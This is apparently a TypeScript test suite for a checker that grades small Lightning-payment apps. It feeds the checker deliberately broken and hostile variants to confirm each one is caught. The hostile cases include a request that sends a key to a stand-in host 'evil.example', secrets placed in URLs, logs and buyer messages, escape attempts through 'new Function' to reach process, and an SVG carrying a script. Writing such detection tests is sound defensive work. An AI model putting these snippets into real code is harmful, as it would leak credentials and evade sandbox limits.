import { join } from 'node:path'
import { test, type Test } from 'tap'
import { judgeInvoice } from '../../src/cli/judge-invoice.ts'
import { checkLApp, type Report } from '../../src/lapps/check.ts'
import { readFiles } from '../../src/lapps/files.ts'
import { tierNow } from '../../src/lapps/granted.ts'
import { msat } from '../../src/core/msat.ts'
import { passes } from '../../src/lapps/conformance/finding.ts'
import { BUYS, FACTS, good, NOW, type Change } from './harness/good.ts'

const check = (t: Test, change: Change = {}, runs = 1): Promise<Report> =>
  checkLApp(join(t.testdir({ good: good(change) }), 'good'), {
    judge: judgeInvoice,
    now: NOW,
    fuzz: { runs, seed: 1 }
  })

/** What did not pass, of checks and rules, and why. */
function failures(report: Report): Record<string, readonly string[]> {
  if (report.is === 'invalid') return { invalid: [report.why] }
  const failed = [...report.found, ...report.judged].flatMap(({ id, finding }) =>
    passes(finding) || 'exempt' in finding ? [] : [[id, finding] as const]
  )
  return Object.fromEntries(failed)
}

test('a good LApp passes every check and every rule', async t => {
  const report = await check(t, {}, 100)
  t.same(failures(report), {})
  t.match(report, { tier: 'platinum', granted: { recorded: '2026-11-20', version: '1.0.0' } })
  t.match(report, { granted: { exempt: { 'live-green': /real services/ } } }, 'with the reason')
})

type Broken = { readonly what: string; readonly by: readonly string[]; readonly change: Change }

const ORDER = `const order = await http.post('orders', { json: input, headers })`

/** Each is broken in one place, and caught by the checks that are there for it. */
const BROKEN: readonly Broken[] = [
  {
    what: 'no README',
    by: ['C1', 'limits-documented', 'personal-data-minimal', 'readme-headings'],
    change: { files: { 'README.md': undefined } }
  },
  {
    what: 'an icon with a script',
    by: ['C1', 'icon-clean'],
    change: { files: { 'icon.svg': '<svg viewBox="0 0 24 24"><script>alert(1)</script></svg>' } }
  },
  {
    what: 'an example that its own form refuses',
    by: ['C2', 'form-drawable'],
    change: {
      facts: {
        examples: [
          { phone: 'none', plan: 'basic' },
          { phone: '+447900000002', plan: 'plus' }
        ]
      }
    }
  },
  {
    what: 'stale drawings',
    by: ['C3', 'form-drawable'],
    change: { files: { 'drawings.txt': 'old' } }
  },
  {
    what: 'a look at the clock',
    by: ['C4', 'narrow-imports'],
    change: {
      code: [
        [
          ORDER,
          `const at = Date.now()\n    ${ORDER.replace('json: input', 'json: at > 0 ? input : {}')}`
        ]
      ]
    }
  },
  {
    what: 'another price than recorded',
    by: ['C5', 'invoice-accepted'],
    change: { buys: { expect: { ...BUYS.expect, invoice: { msat: '4000000' } } } }
  },
  {
    what: 'a request that is not recorded',
    by: ['C5', 'invoice-accepted'],
    change: { code: [[ORDER, `await http.get('ping').text()\n    ${ORDER}`]] }
  },
  {
    what: 'a second order for the same key',
    by: ['C7', 'repeat-safe'],
    change: { code: [[`'idempotency-key': key, `, '']] }
  },
  {
    what: 'an error of its own when a field is missing',
    by: ['C8', 'faults-typed'],
    change: { code: [[`typeof order.invoice !== 'string' || `, `order.invoice!.length === 0 || `]] }
  },
  {
    what: 'giving up what was paid for in an outage',
    by: ['C8', 'faults-typed'],
    change: {
      code: [
        [
          `const { code } = await http.get('orders/' + String(reference)).json<{ code?: unknown }>()`,
          `const { code } = await http.get('orders/' + String(reference)).json<{ code?: unknown }>().catch(() => ({ code: 0 }))
    if (code === 0) return { state: 'failed', reason: 'The shop is silent.' }`
        ]
      ]
    }
  },
  {
    what: 'going on when nobody waits',
    by: ['C10', 'abort-honoured'],
    change: {
      code: [
        ['{ http, secrets }', '{ http, secrets, signal }'],
        [
          ORDER,
          `const never = () => (signal.aborted ? new Promise<never>(() => undefined) : undefined)
    await http.post('orders', { json: input, headers }).catch(never)
    ${ORDER}`
        ]
      ]
    }
  },
  {
    what: 'something else at the second asking',
    by: ['C11', 'C8', 'deliver-repeatable', 'faults-typed'],
    change: {
      code: [
        ['export default', 'let times = 0\n\nexport default'],
        [
          'output: { code } }',
          'output: { code: times++ === 0 ? code : `${code}${String(times)}` } }'
        ]
      ]
    }
  },
  {
    what: 'a form that takes less than the version before',
    by: ['C12', 'form-compatible'],
    change: {
      files: {
        'tier.json': JSON.stringify({
          version: '1.0.0',
          input: {
            type: 'object',
            properties: { phone: { type: 'string', title: 'Phone', maxLength: 20 } },
            additionalProperties: false
          }
        })
      }
    }
  },
  {
    what: 'a recording of last year',
    by: ['C13', 'fresh-recording'],
    change: { buys: { recorded: '2025-11-20' } }
  },
  {
    what: 'a language that is promised',
    by: ['C14', 'translated'],
    change: { facts: { languages: ['en', 'de'] } }
  },
  {
    what: 'a recording that cannot be read',
    by: [
      'C1',
      'C11',
      'C5',
      'deliver-repeatable',
      'invoice-accepted',
      'limits-tight',
      'manifest-valid'
    ],
    change: { buys: { now: 'today' } }
  },
  { what: 'jargon', by: ['texts-plain'], change: { facts: { title: 'Voucher API integration' } } },
  {
    what: 'no link to terms',
    by: ['terms-linked', 'receipt-complete'],
    change: { facts: { homepage: undefined } }
  },
  {
    what: 'a limit that limits nothing',
    by: ['limits-tight'],
    change: { facts: { limits: { msatMax: 900_000_000 } } }
  },
  {
    what: 'a price that nobody knows before',
    by: ['price-before-confirm'],
    change: { facts: { price: 'quoted' } }
  },
  {
    what: 'one example',
    by: ['presets'],
    change: { facts: { examples: FACTS.examples.slice(1) } }
  },
  {
    what: 'a secret that nothing proves',
    by: ['secrets-tested'],
    change: { facts: { secrets: { API_KEY: { title: 'Key', obtain: 'Ask' } } } }
  },
  {
    what: 'nothing said of refunds',
    by: ['refund-explained'],
    change: { facts: { refund: 'none' } }
  }
]

test('a broken LApp is caught by the check that is there for it', async t => {
  t.jobs = 4
  for (const { what, by, change } of BROKEN) {
    void t.test(`${what}: ${by.join(', ')}`, async t => {
      t.same(Object.keys(failures(await check(t, change))).sort(), [...by].sort())
    })
  }
})

/** Each tries to do harm, and is caught by the checks that are there for it. */
const HOSTILE: readonly Broken[] = [
  {
    what: 'sends what it knows elsewhere',
    by: ['C6', 'hosts-exact', 'secrets-declared'],
    change: {
      code: [
        [
          ORDER,
          `await http.get('https://evil.example/?' + key).text().catch(() => '')\n    ${ORDER}`
        ]
      ]
    }
  },
  {
    what: 'puts a secret into an address',
    by: ['C5', 'C6', 'hosts-exact', 'secrets-declared', 'invoice-accepted'],
    change: { code: [[`http.post('orders',`, `http.post('orders?' + (secrets['API_KEY'] ?? ''),`]] }
  },
  {
    what: 'tells a secret to the log',
    by: ['C6', 'hosts-exact', 'secrets-declared'],
    change: {
      code: [
        ['{ http, secrets }', '{ http, secrets, log }'],
        [ORDER, `log(String(secrets['API_KEY']))\n    ${ORDER}`]
      ]
    }
  },
  {
    what: 'tells a secret to the buyer',
    by: ['C6', 'hosts-exact', 'secrets-declared'],
    change: {
      code: [[`'There are no vouchers left.'`, `'None left: ' + String(secrets['API_KEY'])`]]
    }
  },
  {
    what: 'wants the environment',
    by: ['C4', 'narrow-imports'],
    change: {
      code: [
        [ORDER, `log(typeof process)\n    ${ORDER}`],
        ['{ http, secrets }', '{ http, secrets, log }']
      ]
    }
  },
  {
    what: 'hides code in a text',
    by: ['C4', 'narrow-imports'],
    change: {
      code: [
        [ORDER, `try { new Function('return process')() } catch { /* walls */ }\n    ${ORDER}`]
      ]
    }
  },
  {
    what: 'makes its own invoice of an outage',
    by: ['C8', 'faults-typed'],
    change: {
      code: [
        [
          `.json<{ id?: string; invoice?: string; soldOut?: boolean }>()`,
          `.json<{ id?: string; invoice?: string; soldOut?: boolean }>().catch(() => ({ id: 'mine', invoice: 'lnbc1mine', soldOut: false }))`
        ]
      ]
    }
  },
  {
    what: 'asks for another amount than was recorded',
    by: ['C5', 'invoice-accepted', 'limits-tight'],
    change: { buys: { expect: { ...BUYS.expect, invoice: { msat: '1' } } } }
  },
  {
    what: 'imports what is not its own',
    by: ['invalid'],
    change: { code: [[`import {`, `import 'node:fs'\nimport {`]] }
  },
  {
    what: 'never ends to load',
    by: ['invalid'],
    change: { code: [['export default', 'for (;;);\n\nexport default']] }
  }
]

test('a hostile LApp is caught by the check that is there for it', async t => {
  t.jobs = 4
  for (const { what, by, change } of HOSTILE) {
    void t.test(`one that ${what}: ${by.join(', ')}`, async t => {
      t.same(Object.keys(failures(await check(t, change))).sort(), [...by].sort())
    })
  }
})

test('the host refuses every forged invoice, and a check that lets one pass is caught by C9', async t => {
  const dir = join(t.testdir({ good: good() }), 'good')
  const trusting: typeof judgeInvoice = () => ({ is: 'payable', amountMsat: msat(5_000_000n) })
  const report = await checkLApp(dir, { judge: trusting, now: NOW, fuzz: { runs: 1, seed: 1 } })
  t.match(failures(report), {
    C9: [
      /another network/,
      /expired/,
      /without an amount/,
      /one msat more/,
      /bad signature/,
      /unknown feature/
    ]
  })
})

test('a rule is excused by a reason, unless money hangs on it', async t => {
  const facts = {
    homepage: undefined,
    exempt: {
      'terms-linked': 'The shop has no page of its own',
      'receipt-complete': 'There is nobody to ask'
    }
  }
  const excused = await check(t, { facts })
  t.match(excused, {
    tier: 'platinum',
    granted: { exempt: { 'terms-linked': /no page of its own/ } }
  })
  const unsafe = await check(t, {
    facts: { exempt: { 'faults-typed': 'It never fails, I promise' } },
    code: [[`typeof order.invoice !== 'string' || `, `order.invoice!.length === 0 || `]]
  })
  t.match(unsafe, { tier: 'bronze' })
})

test('a tier is void once a file has changed, and silver at most once the recordings are stale', async t => {
  const report = await check(t)
  if (report.is === 'invalid') throw new Error(report.why)
  const files = await readFiles(join(t.testdirName, 'good'))
  const later = new Date('2027-07-01')
  t.equal(tierNow(report.granted, files, NOW), 'platinum')
  t.equal(tierNow(report.granted, files, later), 'silver')
  t.equal(tierNow(report.granted, new Map([...files, ['tier.json', '{}']]), NOW), 'platinum')
  t.equal(tierNow(report.granted, new Map([...files, ['index.ts', 'changed']]), NOW), 'none')
  t.equal(tierNow(undefined, files, NOW), 'none')
})
